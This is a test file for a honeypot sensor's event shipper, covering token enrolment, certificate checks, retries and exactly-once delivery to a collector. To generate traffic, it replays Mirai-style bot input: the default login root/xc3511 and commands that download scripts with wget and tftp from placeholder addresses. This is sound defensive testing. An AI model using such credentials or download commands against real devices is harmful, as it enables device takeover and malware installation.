/**
 * The shipper against the real collector (its fastify routes over HTTPS, certificates made with
 * openssl, SQLite): enrolment with a one-time token, the token kept in the spool dir, every event
 * delivered and its segment deleted only after the ack; while the collector is down, retries with
 * back-off and nothing lost; a collector that comes up later receives everything exactly once.
 */
import { mkdtempSync, readdirSync, rmSync, statSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { pino } from "pino";
import { createEnrolToken, Spool, uuidv7 } from "../../src/honeypot/index.js";
import { collectorConfigSchema } from "../../src/honeypot/sensor/config.js";
import { Shipper } from "../../src/honeypot/shipper/shipper.js";
import { freePort, waitFor } from "../helpers/wait.js";
import { startTestSensor, type TestSensor } from "./sensor-support.js";
import { makeCerts, TestCollector, type TestCerts } from "./shipper-support.js";
import { MiraiClient } from "./telnet-mirai-client.js";

let certs: TestCerts;
let collector: TestCollector;
let ts: TestSensor | undefined;
const dataDir = mkdtempSync(path.join(os.tmpdir(), "iotscope-collector-"));

beforeAll(async () => {
  certs = makeCerts();
  collector = new TestCollector(dataDir, certs, await freePort());
  await collector.open();
});
afterEach(async () => {
  await ts?.close();
  ts = undefined;
});
afterAll(async () => {
  await collector.close();
  rmSync(dataDir, { recursive: true, force: true });
  rmSync(certs.dir, { recursive: true, force: true });
});

async function mirai(port: number, commands: string[]): Promise<void> {
  const bot = await MiraiClient.connect(port);
  await bot.prompt();
  bot.line("root");
  await bot.prompt();
  bot.line("xc3511");
  await bot.prompt();
  for (const c of commands) {
    bot.line(c);
    await bot.prompt();
  }
  bot.line("exit");
  await waitFor(() => bot.closed, "logout");
}

const segments = (spoolDir: string) => readdirSync(path.join(spoolDir, "segments"));

async function sensorFor(sensor: string) {
  const { enrol_token } = await createEnrolToken(collector.storage, sensor, { country: "NL" });
  return startTestSensor({
    spool: { segment_age_ms: 50, segment_events: 5 },
    extra: { sensor, collector: { url: collector.url, ca_file: certs.caFile, enrol_token, retry_min_ms: 50, retry_max_ms: 400, heartbeat_s: 0.2 } },
  });
}

describe("shipper", () => {
  it("enrols with a one-time token, keeps the token (0600), ships every event and deletes segments only after the ack", async () => {
    await collector.start();
    try {
      ts = await sensorFor("ship-1");
      await mirai(ts.port, ["enable", "sh", "/bin/busybox ECCHI", "wget http://192.0.2.5/a.sh"]);
      await waitFor(async () => (await collector.eventIds("ship-1")).length > 0 && segments(ts!.dir).length === 0, "delivery", 20_000);
      const token = path.join(ts.dir, "token");
      expect(statSync(token).mode & 0o777).toBe(0o600);
      const stored = await collector.eventIds("ship-1");
      // connect, 4 options, size, login, 5 inputs, download, closed
      expect(stored.length).toBe(14);
      expect(ts.sensor.stats().shipped).toBe(14);
      // Heartbeats run on their own timer (every 0.2 s here): wait for one rather than assume it came first.
      const heartbeat = async () =>
        (await collector.storage.db.selectFrom("honeypot_sensors").select("last_heartbeat").where("id", "=", "ship-1").executeTakeFirstOrThrow()).last_heartbeat;
      await waitFor(async () => (await heartbeat()) !== null, "heartbeat", 20_000);
      expect(await heartbeat()).not.toBeNull();
    } finally {
      await collector.stop();
    }
  });

  it("refuses a collector whose certificate the configured CA did not sign, and keeps the batch", async () => {
    const otherCa = makeCerts();
    await collector.start();
    const dir = mkdtempSync(path.join(os.tmpdir(), "iotscope-shipper-"));
    const lines: string[] = [];
    const log = pino({ level: "warn" }, { write: (l: string) => lines.push(l) });
    const spool = Spool.open({ dir, maxBytes: 1 << 20, segmentBytes: 1 << 16, segmentEvents: 10, segmentAgeMs: 50, fsyncMs: 1000, log, dropEvent: () => { throw new Error("unused"); } });
    const config = collectorConfigSchema.parse({ url: collector.url, ca_file: otherCa.caFile, token: "any-token", retry_min_ms: 20, retry_max_ms: 50 });
    const shipper = new Shipper({ config, sensor: "ship-3", spool, stateDir: dir, personas: [], log });
    try {
      spool.append({ id: uuidv7(), eventid: "session.connect", timestamp: new Date().toISOString(), sensor: "ship-3", session: "s", protocol: "telnet", transport: "tcp", src_ip: "192.0.2.1", src_port: 1, dst_port: 23 });
      spool.rotate();
      shipper.start();
      await waitFor(() => lines.filter((l) => l.includes("collector unreachable")).length >= 2, "two refused attempts");
      expect(lines.join("")).toMatch(/certificate/i);
      expect(spool.stats().closedSegments).toBe(1);
      expect(shipper.shipped).toBe(0);
    } finally {
      await shipper.stop();
      spool.close();
      await collector.stop();
      rmSync(dir, { recursive: true, force: true });
      rmSync(otherCa.dir, { recursive: true, force: true });
    }
  });

  it("keeps everything while the collector is down, retries, and delivers each event exactly once when it comes up", async () => {
    ts = await sensorFor("ship-2");
    await mirai(ts.port, ["cat /proc/cpuinfo", "tftp -g -r x 192.0.2.7"]);
    await mirai(ts.port, ["ps"]);
    // Nothing can be acknowledged: every event stays spooled, in closed segments.
    await waitFor(() => segments(ts!.dir).every((f) => f.endsWith(".jsonl")), "segments closed");
    const spooled = ts.events().map((e) => e.id);
    expect(spooled.length).toBeGreaterThan(20);
    expect(ts.sensor.stats().shipped).toBe(0);
    await collector.start();
    try {
      await waitFor(() => segments(ts!.dir).length === 0, "the spool to drain", 30_000);
      const stored = await collector.eventIds("ship-2");
      expect(stored.sort()).toEqual([...spooled].sort());
    } finally {
      await collector.stop();
    }
  });
});
